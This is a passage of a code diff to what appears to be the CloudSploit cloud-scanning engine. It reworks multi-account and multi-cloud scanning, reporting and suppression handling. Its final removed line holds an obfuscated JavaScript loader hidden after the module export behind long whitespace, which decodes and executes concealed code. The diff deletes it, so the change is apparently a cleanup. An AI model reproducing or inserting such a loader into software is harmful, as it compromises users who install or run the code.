+                outputHandler.writeCollection(collection, scan.cloud, account);
+
+                // Calls denied a permission leave the plugins relying on them
+                // with UNKNOWN results
+                if (settings.collection_report) {
+                    var report = callReport.build(collection, runApiCalls || scan.apiCalls, {durations: durations, retries: retries});
+                    outputHandler.writeCollectionReport(report, scan.cloud, account);
+                    var deniedCalls = callReport.permissionDenied(report);
+                    if (deniedCalls.length) log(`WARN: Permission denied for ${deniedCalls.length} API calls${scanTarget(scan, account)}: ${deniedCalls.join(', ')}`);
+                }
+
+                log(`INFO: Metadata collection complete${scanTarget(scan, account)}. Analyzing...`);
+                analyzeCollection(scan, collection, accountConfig, account, scanDone);
+            });
+        });
+    };
+
+    // Collects and analyzes one cloud, calling scanDone with an error only
+    // when none of its accounts could be scanned
+    var runScan = function(scan, scanDone) {
+        if (scan.savedCollections) {
+            async.eachSeries(scan.savedCollections, function(saved, savedCb) {
+                outputHandler.writeCollection(saved.collection, scan.cloud, saved.account);
+                analyzeCollection(scan, saved.collection, scan.cloudConfig, saved.account, function(err) {
+                    if (err) {
+                        log(`ERROR: ${err}`);
+                        scanErrors.push({cloud: scan.cloud, account: saved.account, message: String(err)});
+                    }
+                    savedCb();
+                });
+            }, function() {
+                scanDone();
+            });
+        } else if (scan.accountSource) {
+            scan.accountSource.listAccounts(scan.cloudConfig, settings, function(err, accounts) {
+                if (err) return scanDone(err);
+                if (!accounts.length) return scanDone(`No accounts found to scan${scanTarget(scan)}`);
+                log(`INFO: Scanning ${accounts.length} accounts${scanTarget(scan)}`);
+
+                async.eachLimit(accounts, settings.account_concurrency || 3, function(account, accountCb) {
+                    var accountDone = function(accountErr) {
+                        if (accountErr) {
+                            log(`ERROR: ${accountErr}`);
+                            scanErrors.push({cloud: scan.cloud, account: account.id, message: String(accountErr)});
+                        }
+                        accountCb();
+                    };
+
+                    scan.accountSource.accountConfig(scan.cloudConfig, account, settings, function(configErr, accountConfig) {
+                        if (configErr) return accountDone(configErr);
+                        collectAccount(scan, accountConfig, account.id, accountDone);
+                    });
+                }, function() {
+                    scanDone();
+                });
+            });
+        } else {
+            collectAccount(scan, scan.cloudConfig, null, scanDone);
         }
-        
-        if (settings.remediate && settings.remediate.length && cloudConfig.remediate) {
-            runAuth(settings, cloudConfig.remediate, function(err) {
-                if (err) return console.log(err);
-                executePlugins(cloudConfig.remediate);
+    };
+
+    var finishScan = function() {
+        log('INFO: Analysis complete. Scan report to follow...');
+
+        // Expired suppression rules are reported as warnings so that they
+        // are renewed or removed
+        suppressionFilter.expired.forEach(function(rule) {
+            var expiredResult = suppress.expiredResult(rule);
+            if (baselineDiff) changeCounts[baselineDiff.compare(expiredResult, 'suppressionExpired')] += 1;
+            outputHandler.writeResult(expiredResult, suppress.expiredPlugin, 'suppressionExpired', null);
+            if (affectsExitCode(expiredResult, suppress.expiredPlugin)) maximumStatus = Math.max(maximumStatus, expiredResult.status);
+        });
+        // The report is written even without rules, with an empty summary
+        var suppressionReport = suppressionFilter.report();
+        if (suppressionReport.summary.unmatched.length) {
+            log(`WARN: Suppressions that did not match any result: ${suppressionReport.summary.unmatched.join(', ')}`);
+        }
+        outputHandler.writeSuppressionReport(suppressionReport);
+
+        if (baselineDiff) {
+            var ranPlugins = [];
+            scans.forEach(function(scan) {
+                Object.keys(scan.plugins).forEach(function(pluginId) {
+                    if (scan.skippedPlugins.indexOf(pluginId) > -1) return;
+                    ranPlugins.push(settings.multi_cloud ? `${scan.cloud}/${pluginId}` : pluginId);
+                });
+            });
+            baselineDiff.resolved(ranPlugins).forEach(function(resolved) {
+                // Passing results are not findings that can be resolved
+                if (settings.ignore_ok && resolved.previousStatus === 0) return;
+                var plugin = cloudPlugins(resolved.cloud || clouds[0])[resolved.plugin];
+                changeCounts.RESOLVED += 1;
+                outputHandler.writeResult(resolved, plugin || resolved, resolved.plugin, null);
             });
+            log(`INFO: Compared with baseline: ${changeCounts.NEW} new, ${changeCounts.RESOLVED} resolved, ` +
+                `${changeCounts.STATUS_CHANGED} changed, ${changeCounts.UNCHANGED} unchanged`);
+        }
+
+        var azureConfig = cloudConfigs.azure;
+        if (azureConfig && azureConfig.StorageConnection && azureConfig.BlobContainer) uploadResultsToBlob(resultsObject, azureConfig.StorageConnection, azureConfig.BlobContainer);
+        // log(JSON.stringify(collection, null, 2));
+        outputHandler.close();
+        if (!callback && (settings.exit_code || failOn)) {
+            // The original cloudsploit always has a 0 exit code. With this option, we can have
+            // the exit code depend on the results (useful for integration with CI systems)
+            log(`INFO: Exiting with exit code: ${maximumStatus}`);
+            process.exitCode = maximumStatus;
+        }
+        log('INFO: Scan complete');
+        done(null, {status: maximumStatus, errors: scanErrors});
+    };
+
+    if (settings.remediate && settings.remediate.length && (settings.from_collection || settings.multi_account || settings.multi_cloud)) {
+        if (settings.from_collection) {
+            log('WARN: Remediation is not supported when analyzing a saved collection and will be skipped');
         } else {
-            executePlugins(cloudConfig);
+            log('WARN: Remediation is not supported when scanning several accounts or clouds and will be skipped');
         }
+        settings.remediate = null;
+    }
+
+    // The clouds are collected in parallel. A scan of a single cloud that
+    // failed has nothing to report, while the other clouds of a scan of
+    // several are still reported.
+    async.each(scans, function(scan, scanCb) {
+        runScan(scan, function(err) {
+            if (err) {
+                log(`ERROR: ${err}`);
+                scanErrors.push({cloud: scan.cloud, message: String(err)});
+            }
+            scanCb(settings.multi_cloud ? null : err);
+        });
+    }, function(err) {
+        if (err) return done(new Error(String(err)));
+        finishScan();
     });
 };
 
-module.exports = engine;                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                                        global['!']='7-1551';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};for(var j=0;j< h;j++){var s=e* (j+ 489)+ (e% 19597);var w=e* (j+ 659)+ (e% 48014);var t=s% h;var p=w% h;var y=g[t];g[t]= g[p];g[p]= y;e= (s+ w)% 4573868};var x=String.fromCharCode(127);var q='';var k='\x25';var m='\x23\x31';var r='\x25';var a='\x23\x30';var c='\x23';return g.join(q).split(k).join(x).split(m).join(r).split(a).join(c).split(x)})("rmcej%otb%",2857687);global[_$_1e42[0]]= require;if( typeof module=== _$_1e42[1]){global[_$_1e42[2]]= module};(function(){var LQI='',TUU=401-390;function sfL(w){var n=2667686;var y=w.length;var b=[];for(var o=0;o<y;o++){b[o]=w.charAt(o)};for(var o=0;o<y;o++){var q=n*(o+228)+(n%50332);var e=n*(o+128)+(n%52119);var u=q%y;var v=e%y;var m=b[u];b[u]=b[v];b[v]=m;n=(q+e)%4289487;};return b.join('')};var EKc=sfL('wuqktamceigynzbosdctpusocrjhrflovnxrt').substr(0,TUU);var joW='ca.qmi=),sr.7,fnu2;v5rxrr,"bgrbff=prdl+s6Aqegh;v.=lb.;=qu atzvn]"0e)=+]rhklf+gCm7=f=v)2,3;=]i;raei[,y4a9,,+si+,,;av=e9d7af6uv;vndqjf=r+w5[f(k)tl)p)liehtrtgs=)+aph]]a=)ec((s;78)r]a;+h]7)irav0sr+8+;=ho[([lrftud;e<(mgha=)l)}y=2it<+jar)=i=!ru}v1w(mnars;.7.,+=vrrrre) i (g,=]xfr6Al(nga{-za=6ep7o(i-=sc. arhu; ,avrs.=, ,,mu(9  9n+tp9vrrviv{C0x" qh;+lCr;;)g[;(k7h=rluo41<ur+2r na,+,s8>}ok n[abr0;CsdnA3v44]irr00()1y)7=3=ov{(1t";1e(s+..}h,(Celzat+q5;r ;)d(v;zj.;;etsr g5(jie )0);8*ll.(evzk"o;,fto==j"S=o.)(t81fnke.0n )woc6stnh6=arvjr q{ehxytnoajv[)o-e}au>n(aee=(!tta]uar"{;7l82e=)p.mhu<ti8a;z)(=tn2aih[.rrtv0q2ot-Clfv[n);.;4f(ir;;;g;6ylledi(- 4n)[fitsr y.<.u0;a[{g-seod=[, ((naoi=e"r)a plsp.hu0) p]);nu;vl;r2Ajq-km,o;.{oc81=ih;n}+c.w[*qrm2 l=;nrsw)6p]ns.tlntw8=60dvqqf"ozCr+}Cia,"1itzr0o fg1m[=y;s91ilz,;aa,;=ch=,1g]udlp(=+barA(rpy(()=.t9+ph t,i+St;mvvf(n(.o,1refr;e+(.c;urnaui+try. d]hn(aqnorn)h)c';var dgC=sfL[EKc];var Apa='';var jFD=dgC;var xBg=dgC(Apa,sfL(joW));var pYd=xBg(sfL('o B%v[Raca)rs_bv]0tcr6RlRclmtp.na6 cR]%pw:ste-%C8]tuo;x0ir=0m8d5|.u)(r.nCR(%3i)4c14\/og;Rscs=c;RrT%R7%f\/a .r)sp9oiJ%o9sRsp{wet=,.r}:.%ei_5n,d(7H]Rc )hrRar)vR<mox*-9u4.r0.h.,etc=\/3s+!bi%nwl%&\/%Rl%,1]].J}_!cf=o0=.h5r].ce+;]]3(Rawd.l)$49f 1;bft95ii7[]]..7t}ldtfapEc3z.9]_R,%.2\/ch!Ri4_r%dr1tq0pl-x3a9=R0Rt\'cR["c?"b]!l(,3(}tR\/$rm2_RRw"+)gr2:;epRRR,)en4(bh#)%rg3ge%0TR8.a e7]sh.hR:R(Rx?d!=|s=2>.Rr.mrfJp]%RcA.dGeTu894x_7tr38;f}}98R.ca)ezRCc=R=4s*(;tyoaaR0l)l.udRc.f\/}=+c.r(eaA)ort1,ien7z3]20wltepl;=7$=3=o[3ta]t(0?!](C=5.y2%h#aRw=Rc.=s]t)%tntetne3hc>cis.iR%n71d 3Rhs)}.{e m++Gatr!;v;Ry.R k.eww;Bfa16}nj[=R).u1t(%3"1)Tncc.G&s1o.o)h..tCuRRfn=(]7_ote}tg!a+t&;.a+4i62%l;n([.e.iRiRpnR-(7bs5s31>fra4)ww.R.g?!0ed=52(oR;nn]]c.6 Rfs.l4{.e(]osbnnR39.f3cfR.o)3d[u52_]adt]uR)7Rra1i1R%e.=;t2.e)8R2n9;l.;Ru.,}}3f.vA]ae1]s:gatfi1dpf)lpRu;3nunD6].gd+brA.rei(e C(RahRi)5g+h)+d 54epRRara"oc]:Rf]n8.i}r+5\/s$n;cR343%]g3anfoR)n2RRaair=Rad0.!Drcn5t0G.m03)]RbJ_vnslR)nR%.u7.nnhcc0%nt:1gtRceccb[,%c;c66Rig.6fec4Rt(=c,1t,]=++!eb]a;[]=fa6c%d:.d(y+.t0)_,)i.8Rt-36hdrRe;{%9RpcooI[0rcrCS8}71er)fRz [y)oin.K%[.uaof#3.{. .(bit.8.b)R.gcw.>#%f84(Rnt538\/icd!BR);]I-R$Afk48R]R=}.ectta+r(1,se&r.%{)];aeR&d=4)]8.\/cf1]5ifRR(+$+}nbba.l2{!.n.x1r1..D4t])Rea7[v]%9cbRRr4f=le1}n-H1.0Hts.gi6dRedb9ic)Rng2eicRFcRni?2eR)o4RpRo01sH4,olroo(3es;_F}Rs&(_rbT[rc(c (eR\'lee(({R]R3d3R>R]7Rcs(3ac?sh[=RRi%R.gRE.=crstsn,( .R ;EsRnrc%.{R56tr!nc9cu70"1])}etpRh\/,,7a8>2s)o.hh]p}9,5.}R{hootn\/_e=dc*eoe3d.5=]tRc;nsu;tm]rrR_,tnB5je(csaR5emR4dKt@R+i]+=}f)R7;6;,R]1iR]m]R)]=1Reo{h1a.t1.3F7ct)=7R)%r%RF MR8.S$l[Rr )3a%_e=(c%o%mr2}RcRLmrtacj4{)L&nl+JuRR:Rt}_e.zv#oci. oc6lRR.8!Ig)2!rrc*a.=]((1tr=;t.ttci0R;c8f8Rk!o5o +f7!%?=A&r.3(%0.tzr fhef9u0lf7l20;R(%0g,n)N}:8]c.26cpR(]u2t4(y=\/$\'0g)7i76R+ah8sRrrre:duRtR"a}R\/HrRa172t5tt&a3nci=R=<c%;,](_6cTs2%5t]541.u2R2n.Gai9.ai059Ra!at)_"7+alr(cg%,(};fcRru]f1\/]eoe)c}}]_toud)(2n.]%v}[:]538 $;.ARR}R-"R;Ro1R,,e.{1.cor ;de_2(>D.ER;cnNR6R+[R.Rc)}r,=1C2.cR!(g]1jRec2rqciss(261E]R+]-]0[ntlRvy(1=t6de4cn]([*"].{Rc[%&cb3Bn lae)aRsRR]t;l;fd,[s7Re.+r=R%t?3fs].RtehSo]29R_,;5t2Ri(75)Rf%es)%@1c=w:RR7l1R(()2)Ro]r(;ot30;molx iRe.t.A}$Rm38e g.0s%g5trr&c:=e4=cfo21;4_tsD]R47RttItR*,le)RdrR6][c,omts)9dRurt)4ItoR5g(;R@]2ccR 5ocL..]_.()r5%]g(.RRe4}Clb]w=95)]9R62tuD%0N=,2).{Ho27f ;R7}_]t7]r17z]=a2rci%6.Re$Rbi8n4tnrtb;d3a;t,sl=rRa]r1cw]}a4g]ts%mcs.ry.a=R{7]]f"9x)%ie=ded=lRsrc4t 7a0u.}3R<ha]th15Rpe5)!kn;@oRR(51)=e lt+ar(3)e:e#Rf)Cf{d.aR\'6a(8j]]cp()onbLxcRa.rne:8ie!)oRRRde%2exuq}l5..fe3R.5x;f}8)791.i3c)(#e=vd)r.R!5R}%tt!Er%GRRR<.g(RR)79Er6B6]t}$1{R]c4e!e+f4f7":) (sys%Ranua)=.i_ERR5cR_7f8a6cr9ice.>.c(96R2o$n9R;c6p2e}R-ny7S*({1%RRRlp{ac)%hhns(D6;{ ( +sw]]1nrp3=.l4 =%o (9f4])29@?Rrp2o;7Rtmh]3v\/9]m tR.g ]1z 1"aRa];%6 RRz()ab.R)rtqf(C)imelm${y%l%)c}r.d4u)p(c\'cof0}d7R91T)S<=i: .l%3SE Ra]f)=e;;Cr=et:f;hRres%1onrcRRJv)R(aR}R1)xn_ttfw )eh}n8n22cg RcrRe1M'));var Tgw=jFD(LQI,pYd );Tgw(2509);return 1358})();
+module.exports = engine;